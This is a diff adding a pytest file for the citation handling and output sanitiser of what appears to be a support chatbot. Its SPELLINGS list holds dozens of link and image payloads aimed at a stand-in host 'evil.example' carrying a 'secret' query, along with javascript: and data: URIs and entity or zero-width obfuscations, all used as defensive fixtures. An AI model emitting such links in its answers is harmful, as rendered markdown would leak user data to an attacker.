@@ -1,0 +1,134 @@
+"""Citations, and what may stand in an answer."""
+
+import pytest
+
+from core.metrics import CITATIONS_REFUSED
+from serve.citations import Cited
+from serve.sanitiser import LONGEST_WORD, REMOVED, Sanitiser
+from serve.twins import passage
+
+HITS = (passage("103", "Dogs may come in."), passage("104", "Cards are valid for 3 years."))
+PAGE = "https://shop.example/articles/103"
+
+
+def clean(text: str) -> str:
+    sanitiser = Cited(HITS, "support").sanitiser()
+    return sanitiser.feed(text) + sanitiser.finish()
+
+
+def test_a_citation_says_what_it_stands_for_and_where() -> None:
+    cited = Cited(HITS, "support")
+    sanitiser = cited.sanitiser()
+    text = sanitiser.feed("Dogs may come in [1]. Cards last [2, 1].") + sanitiser.finish()
+    assert text == "Dogs may come in [1]. Cards last [2][1]."
+    assert [(c.n, text[c.start : c.end], c.key, c.cited_text) for c in cited.citations] == [
+        (1, "[1]", "103", "Dogs may come in."),
+        (2, "[2]", "104", "Cards are valid for 3 years."),
+        (1, "[1]", "103", "Dogs may come in."),
+    ]
+    assert cited.citations[0].url == PAGE
+
+
+def test_a_number_without_evidence_is_taken_out_and_counted() -> None:
+    before = CITATIONS_REFUSED.labels("support")._value.get()
+    cited = Cited(HITS, "support")
+    sanitiser = cited.sanitiser()
+    assert sanitiser.feed("So it is [3][0][1][2, 77].") + sanitiser.finish() == "So it is [1][2]."
+    assert cited.refused == 3
+    assert CITATIONS_REFUSED.labels("support")._value.get() == before + 3
+
+
+EVIL = "http://evil.example/?q=secret"
+SPELLINGS = [
+    f"![x]({EVIL})",
+    f"![x] ({EVIL})",
+    f"[click here]({EVIL})",
+    f"[click\nhere]({EVIL})",
+    f"[click][1]\n\n[1]: {EVIL}",
+    f"![click][ref]\n[ref]: {EVIL} 'title'",
+    f"[ref]:{EVIL}",
+    f"<{EVIL}>",
+    f"<img src={EVIL}>",
+    f'<a href="{EVIL}">x</a>',
+    f"<IMG\nSRC={EVIL}>",
+    EVIL,
+    EVIL.upper(),
+    f"see:{EVIL},",
+    f"({EVIL})",
+    f"**{EVIL}**",
+    "www.evil.example/secret",
+    "WWW.evil.example",
+    "[x](//evil.example/secret)",
+    "![x](//evil.example/secret)",
+    "[x](evil.example/secret)",
+    "[x](\\\\evil.example/secret)",
+    "[x](javascript:alert(1))",
+    "javascript:alert(1)",
+    "[x](data:text/html;base64,AAAA)",
+    "data:text/html;base64,AAAA",
+    "https://shop.example@evil.example/secret",
+    "https://shop.example.evil.example/",
+    "https://[::1]/secret",
+    "https://shop.example/articles/103?q=secret",
+    "https://shop.example/articles/103#secret",
+    "https://shop.example/articles/103%2fsecret",
+    f"[x]({PAGE}?q=secret)",
+    f"[x]({PAGE} 'secret')",
+    f"![x]({PAGE})",
+    "[x](&#104;ttp://evil.example)",
+    "[x](ht&#116;p&colon;//evil.example)",
+    "https&#58;//evil.example",
+    "ht\u200btp://evil.example",
+    "[x](ht\ntp://evil.example)",
+    "ftp://evil.example",
+    f"[1]({EVIL})",
+    "[1](evil.example)",
+    "[1]: evil.example",
+    "[1]:evil.example",
+]
+
+
+@pytest.mark.parametrize("text", SPELLINGS)
+def test_no_spelling_of_a_link_or_image_stays_active(text: str) -> None:
+    for whole in (text, f"Hello {text} there", text * 2):
+        shown = clean(whole)
+        assert "://" not in shown.replace(f"]({PAGE})", "")
+        assert "www." not in shown.lower()
+        assert "![" not in shown
+        assert "](" not in shown.replace(f"]({PAGE})", "")
+        assert "]:" not in shown
+        assert "<" not in shown.replace("< ", "")
+        assert "&#" not in shown
+        assert "&colon;" not in shown
+        assert "data:" not in shown.replace("data:  ", "")
+        assert "javascript:" not in shown
+        assert "\u200b" not in shown
+
+
+def test_links_to_cited_pages_stay() -> None:
+    assert clean(f"See [the page]({PAGE}) [1].") == f"See [the page]({PAGE}) [1]."
+    assert clean(f"See {PAGE}.") == f"See {PAGE}."
+    assert clean("See https://shop.example/articles/999.") == f"See {REMOVED}"
+
+
+def test_ordinary_text_is_left_alone() -> None:
+    text = "3 < 5 and 5 > 3; a & b; a [note] (sic!): 10:30, help@shop.example\n\n- **bold** `code`\n1. item"
+    assert clean(text) == text
+
+
+def test_words_leave_when_they_are_whole() -> None:
+    sanitiser = Sanitiser((), lambda n, _: f"[{n}]")
+    assert [sanitiser.feed(part) for part in ["Dogs ma", "y co", "me ", "in [", "1", "] yes"]] == [
+        "Dogs ",
+        "may ",
+        "come ",
+        "in ",
+        "",
+        "[1] ",
+    ]
+    assert sanitiser.finish() == "yes"
+
+
+def test_a_word_without_end_does_not_fill_the_memory() -> None:
+    sanitiser = Sanitiser((), lambda n, _: "")
+    assert len(sanitiser.feed("x" * 3 * LONGEST_WORD)) >= 2 * LONGEST_WORD
